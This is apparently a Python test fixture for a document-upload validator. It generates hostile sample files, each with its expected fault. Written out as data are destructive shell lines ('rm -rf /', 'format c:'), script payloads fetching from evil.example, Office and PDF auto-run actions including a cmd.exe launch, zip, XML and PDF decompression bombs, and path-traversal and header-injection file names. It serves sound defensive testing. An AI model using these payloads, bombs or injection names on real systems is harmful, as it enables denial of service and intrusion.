"""A hundred files that somebody might hand in to do harm, made here, with what should come of each.

`FAULT` says why one is refused; `None` that it is taken and has become harmless. MARK stands where
something hostile was hidden in a picture: it must not be found in what is kept.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL.PngImagePlugin import PngInfo

from dialog.core.documents.kinds import MEGABYTE, Fault
from tests.documents import samples
from tests.documents.samples import office, packed, pdf, picture

MARK = b"HOSTILE"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>fetch('//evil.example/')</script></html>"


@dataclass(frozen=True)
class Upload:
    name: str
    make: Callable[[], bytes]
    fault: Fault | None
    about: str


def uploads() -> list[Upload]:
    makers = (_wrong_types, _markup, _macros, _bombs, _active, _broken, _names, _sizes, _twofold)
    return [each for make in makers for each in make()]


def _is(content: bytes) -> Callable[[], bytes]:
    return lambda: content


def _wrong_types() -> Iterator[Upload]:
    program, archive = Fault.PROGRAM, Fault.ARCHIVE
    for name, head, fault in (
        ("faktura.pdf", b"MZ\x90\x00\x03", program),
        ("bild.png", b"\x7fELF\x02\x01\x01", program),
        ("a.docx", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", program),
        ("a.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", program),
        ("a.pdf", b"L\x00\x00\x00\x01\x14\x02\x00\x00", program),
        ("a.txt", b"#!/bin/sh\nrm -rf /\n", program),
        ("a.ps1", b"Remove-Item -Recurse C:\\", Fault.UNKNOWN),
        ("a.bat", b"format c:\r\n", Fault.UNKNOWN),
        ("a.js", b"require('child_process')", Fault.UNKNOWN),
        ("a.rtf", b"{\\rtf1\\object\\objdata 0105}", Fault.UNKNOWN),
        ("a.pdf", b"Rar!\x1a\x07\x01\x00", archive),
        ("a.docx", b"7z\xbc\xaf\x27\x1c\x00\x04", archive),
        ("a.csv", b"\x1f\x8b\x08\x00", archive),
        ("a.pdf", b"\xfd7zXZ\x00\x00", archive),
        ("a.docx", b"PK\x05\x06" + bytes(18), archive),
        ("a.png", b"GIF89a\x01\x00\x01\x00", Fault.UNKNOWN),
        ("a.jpg", b"RIFF\x00\x00\x00\x00WEBPVP8 ", Fault.UNKNOWN),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), Fault.OLD_OFFICE),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), Fault.OLD_OFFICE),
        ("a.txt", b"SQLite format 3\x00" + bytes(64), Fault.UNKNOWN),
        ("a.txt", b"mellan raderna" * 900 + b"\x00\x1b[2J", Fault.UNKNOWN),
    ):
        yield Upload(name, _is(head), fault, "another type than it says")
    yield Upload("a.zip", lambda: packed({"a.exe": b"MZ"}), archive, "an archive")
    yield Upload("a.docx", lambda: packed({"a.exe": b"MZ"}), archive, "an archive by another name")
    yield Upload("a.docx", lambda: office("xlsx"), Fault.MISNAMED, "another Office program's")
    yield Upload("a.pdf.exe", pdf, Fault.MISNAMED, "two endings")


def _markup() -> Iterator[Upload]:
    for name, content in (
        ("a.svg", SVG),
        ("a.png", SVG),
        ("a.txt", b'<?xml version="1.0"?>' + SVG),
        ("a.pdf", b"\xef\xbb\xbf  \r\n" + SVG),
        ("a.csv", b"<!-- bild -->" + SVG),
        ("a.html", b"<!DOCTYPE html>" + HTML),
        ("a.txt", HTML.upper()),
        ("a.csv", b"\n\n\t" + HTML),
        ("a.txt", b"<iframe src=javascript:alert(1)>"),
        ("a.txt", b'<math href="javascript:alert(1)">'),
    ):
        yield Upload(name, _is(content), Fault.WEB_PAGE, "a page or picture with a script")
    yield Upload("a.txt", lambda: SVG.decode().encode("utf-16"), Fault.UNKNOWN, "a script, UTF-16")
    yield Upload("a.txt", _is(b"Hej!\n" + HTML), None, "a script further down, sent as text")


def _macros() -> Iterator[Upload]:
    macro = '<Default Extension="x" ContentType="application/vnd.ms-{}.macroEnabled.main+xml"/>'
    outside = (
        b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/%s" Target="http://evil.example/a" TargetMode="External"/></Relationships>'
    )
    for name, make in (
        ("a.docx", lambda: office(more={"word/vbaProject.bin": b"x"})),
        ("a.docm", lambda: office(types=macro.format("word.document"))),
        ("a.xlsx", lambda: office("xlsx", types=macro.format("excel.sheet"))),
        ("a.pptx", lambda: office("pptx", types=macro.format("powerpoint.presentation"))),
        ("a.docx", lambda: office(more={"word/VBAPROJECT.BIN": b"x"})),
        ("a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
        ("a.docx", lambda: office(more={"word/activeX/activeX1.xml": b"<x/>"})),
        ("a.docx", lambda: office(more={"word/embeddings/oleObject1.bin": b"MZ"})),
        (
            "a.docx",
            lambda: office(more={"word/_rels/a.rels": outside % b"attachedTemplate"}),
        ),
        ("a.docx", lambda: office(more={"word/_rels/b.rels": outside % b"oleObject"})),
        ("a.docx", lambda: office(more={"word/_rels/c.rels": outside % b"image"})),
        ("a.docx", lambda: office(more={"word/_rels/d.rels": outside % b"aFChunk"})),
        ("a.docx", lambda: office(more={"word/_rels/e.rels": outside % b"no/hyperlink"})),
        ("a.pptx", lambda: office("pptx", {"ppt/_rels/a.rels": outside % b"video"})),
        ("a.xlsx", lambda: office("xlsx", {"xl/_rels/a.rels": outside % b"externalLinkPath"})),
        ("a.odt", lambda: samples.odt({"styles.xml": _linking("image", "//evil.example/a")})),
        ("a.odt", lambda: samples.odt({"styles.xml": _linking("object", "../other.odt")})),
        ("a.odt", lambda: samples.odt({"Object 1/content.xml": _linking("plugin", "file:///a")})),
        ("a.odt", lambda: samples.odt({"Basic/Standard/Module1.xml": b"<x/>"})),
        ("a.odt", lambda: samples.odt({"Scripts/python/a.py": b"import os"})),
    ):
        yield Upload(name, make, Fault.MACROS, "does something when it is opened")
    links = outside % b"hyperlink"
    yield Upload("a.docx", lambda: office(more={"word/_rels/a.rels": links}), None, "a link")
    for element, address in (("a", "https://example.org/"), ("image", "Pictures/a.png")):
        part = {"styles.xml": _linking(element, address)}
        yield Upload("a.odt", partial(samples.odt, part), None, "a link, or a picture of its own")


def _linking(element: str, address: str) -> bytes:
    """A part of an OpenDocument with an element that has an address."""
    space = 'xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    link = f'xmlns:l="http://www.w3.org/1999/xlink" l:href="{address}"'
    return f"<d:x {space}><d:{element} {link}/></d:x>".encode()


def _bombs() -> Iterator[Upload]:
    zeros = bytes(60 * MEGABYTE)
    yield Upload(
        "a.docx", lambda: office(more={"word/a": zeros}), Fault.BOMB, "zeros in a container"
    )
    many = {f"word/{number}": b"" for number in range(5_100)}
    yield Upload("a.docx", lambda: office(more=many), Fault.BOMB, "too many entries")
    yield Upload("a.docx", _lying, Fault.BROKEN, "a container that lies of its size")
    unfolding = (
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        b"<Types>&b;&b;</Types>"
    )
    for compress in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        way = partial(packed, {"word/a": bytes(10_000)}, compress=compress)
        yield Upload("a.docx", way, Fault.BROKEN, "packed so that all of it comes out at once")
    wide = unfolding.decode().encode("utf-16")
    yield Upload("a.docx", lambda: packed({"[Content_Types].xml": wide}), Fault.BROKEN,
                 "XML that unfolds, in UTF-16")  # fmt: skip
    entries = {"[Content_Types].xml": unfolding}
    yield Upload("a.docx", lambda: packed(entries), Fault.BROKEN, "XML that unfolds")
    yield Upload("a.png", lambda: _huge_png(50_000, 50_000), Fault.PIXELS, "a picture of 7 GB")
    yield Upload("a.png", _text_bomb, Fault.BROKEN, "a note in a picture that unfolds")
    yield Upload("a.pdf", _object_bomb, Fault.BROKEN, "objects that unfold")


def _lying() -> bytes:
    """An entry that says it holds ten bytes and holds sixty million."""
    whole = bytearray(office(more={"word/a": bytes(60 * MEGABYTE)}))
    size = struct.pack("<L", 60 * MEGABYTE)
    while (at := whole.find(size)) >= 0:
        whole[at : at + 4] = struct.pack("<L", 10)
    return bytes(whole)


def _chunk(name: bytes, content: bytes) -> bytes:
    check = struct.pack("!L", zlib.crc32(name + content))
    return struct.pack("!L", len(content)) + name + content + check


def _huge_png(width: int, height: int) -> bytes:
    head = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(100_000))
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    )


def _text_bomb() -> bytes:
    note = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(20 * MEGABYTE)))
    whole = picture()
    return whole[:33] + note + whole[33:]


def _object_bomb() -> bytes:
    """A stream of objects that is two gigabytes unpacked, made of one block again and again."""
    packer = zlib.compressobj(9)
    stream = packer.compress(b"9 0 <<>> ") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    stream += block * 2_000 + packer.flush()
    head = (
        b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(stream)).encode()
        + b">>stream\n"
    )
    objects = head + stream + b"\nendstream\nendobj\n"
    rows = b"".join(
        struct.pack("!BLB", *row)
        for row in ((0, 0, 0), (1, 9, 0), (1, len(objects), 0)) + ((2, 1, 0),) * 7
    )
    table = (
        b"2 0 obj<</Type/XRef/Size 10/W[1 4 1]/Root 9 0 R/Length "
        + str(len(rows)).encode()
        + b">>stream\n" + rows + b"\nendstream\nendobj\nstartxref\n"
        + str(len(objects)).encode() + b"\n%%EOF"
    )  # fmt: skip
    return objects + table


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _address() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("http://evil.example/"))


def _file() -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary())


def _named(what: Dictionary) -> Dictionary:
    return Dictionary(Names=Array([String("a"), what]))


def _active() -> Iterator[Upload]:
    for what, root in (
        ("script on opening", {"OpenAction": _script()}),
        ("program on opening", {"OpenAction": Dictionary(S=Name.Launch, F=String("cmd.exe"))}),
        ("named scripts", {"Names": Dictionary(JavaScript=_named(_script()))}),
        ("files inside", {"Names": Dictionary(EmbeddedFiles=_named(_file()))}),
        ("on closing", {"AA": Dictionary(WC=_script())}),
        ("deep in lists", {"Extensions": Array([Array([Dictionary(Next=Array([_script()]))])])}),
        ("a form that sends", {"AcroForm": Dictionary(A=Dictionary(S=Name.SubmitForm))}),
        ("a form of another kind", {"AcroForm": Dictionary(XFA=String("<x/>"))}),
        ("a film", {"OpenAction": Dictionary(S=Name.Rendition)}),
        ("fetches data", {"OpenAction": Dictionary(S=Name.ImportData, F=String("a"))}),
        ("another file's page", {"OpenAction": Dictionary(S=Name.GoToE)}),
        ("another file", {"OpenAction": Dictionary(S=Name.GoToR, F=String("//evil.example/a"))}),
        ("another file's thread", {"OpenAction": Dictionary(S=Name.Thread, F=String("a"))}),
        ("an address on opening", {"OpenAction": _address()}),
        ("an address on closing", {"AA": Dictionary(WC=_address())}),
        ("an address after a page", {"OpenAction": Dictionary(S=Name.GoTo, Next=_address())}),
    ):
        content = pdf(**root)  # the objects belong to one file
        yield Upload("a.pdf", _is(content), Fault.ACTIVE, what)
    link = pdf(Names=Dictionary(Dests=_named(Dictionary(A=_address()))))
    yield Upload("a.pdf", _is(link), None, "a link to click on")
    escaped = pdf(OpenAction=_script()).replace(b"/JavaScript", b"/J#61v#61Script")
    yield Upload("a.pdf", _is(escaped), Fault.ACTIVE, "a script, written with signs escaped")
    yield Upload("a.pdf", _locked, Fault.LOCKED, "locked with a password")


def _locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as file:
        file.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def _broken() -> Iterator[Upload]:
    whole = pdf(2)
    loop = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )
    table = b"%PDF-1.7\nxref\n0 99999999\ntrailer<</Size 99999999/Prev 9>>\nstartxref\n9\n%%EOF"
    for content, what in (
        (b"%PDF-", "only a beginning"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 40, "noise"),
        (whole[:100], "cut off"),
        (whole.replace(b"/Pages", b"/Sages"), "no pages"),
        (loop, "pages that hold themselves"),
        (b"%PDF-1.7\n" + b"[" * 200_000, "lists without an end"),
        (b"%PDF-1.7\n1 0 obj" + b"<</A" * 100_000, "dictionaries without an end"),
        (table, "a table of itself"),
    ):
        yield Upload("a.pdf", _is(content), Fault.BROKEN, what)
    yield Upload("a.pdf", lambda: b"x" + whole, Fault.UNKNOWN, "a PDF that begins later")
    yield Upload("a.png", lambda: picture()[:60], Fault.BROKEN, "a picture cut off")
    yield Upload(
        "a.jpg", _is(b"\xff\xd8\xff\xe0" + bytes(400)), Fault.BROKEN, "a picture of nothing"
    )
    yield Upload("a.docx", lambda: office()[:-40], Fault.BROKEN, "a container cut off")


def _names() -> Iterator[Upload]:
    for name in (
        "../../../../etc/cron.d/a.txt",
        "/etc/passwd",
        "..\\..\\Windows\\System32\\a.txt",
        "C:a.txt",
        "a.txt\x00.exe",
        'a"; filename="b.exe".txt',
        "a\r\nContent-Type: text/html\r\n\r\n<script>.txt",
        "\u202efdp.exe.txt",
        "\u200b\u2066a\u2069.txt",
        "x" * 5_000 + ".txt",
        ".",
        ".htaccess.txt",
        "%2e%2e%2fa.txt",
        "<img src=x onerror=alert(1)>.txt",
    ):
        fault = Fault.UNKNOWN if name.endswith(".exe") else None
        yield Upload(
            name, _is(b"Underlag"), fault, "a name that would be a path, a header or a tag"
        )


def _sizes() -> Iterator[Upload]:
    yield Upload("a.pdf", _is(b""), Fault.EMPTY, "nothing")
    yield Upload("a.pdf", lambda: pdf() + bytes(31 * MEGABYTE), Fault.LARGE, "too large")
    yield Upload("a.txt", lambda: b"a" * (6 * MEGABYTE), Fault.LARGE, "a text too large")
    yield Upload("a.png", lambda: picture() + bytes(21 * MEGABYTE), Fault.LARGE, "a picture, too")


def _twofold() -> Iterator[Upload]:
    """What is two things at once: a picture that is a program to somebody else."""
    note = PngInfo()
    note.add_text("Comment", (MARK + HTML).decode())
    yield Upload("a.png", lambda: picture(pnginfo=note), None, "a script in a picture's notes")
    yield Upload("a.png", lambda: picture() + MARK + HTML, None, "a page after a picture")
    yield Upload("a.jpg", lambda: picture("JPEG") + packed({"a": MARK}), None, "a zip after one")
    yield Upload("a.jpg", lambda: picture("JPEG", comment=MARK), None, "words in a picture")
    yield Upload("a.jpg", lambda: picture("JPEG", icc_profile=MARK * 50), None, "no colour profile")
    stored = packed({"a": b"MZ"}, compress=zipfile.ZIP_STORED)
    yield Upload("a.docx", lambda: b"MZ" + stored, Fault.PROGRAM, "a program before a zip")
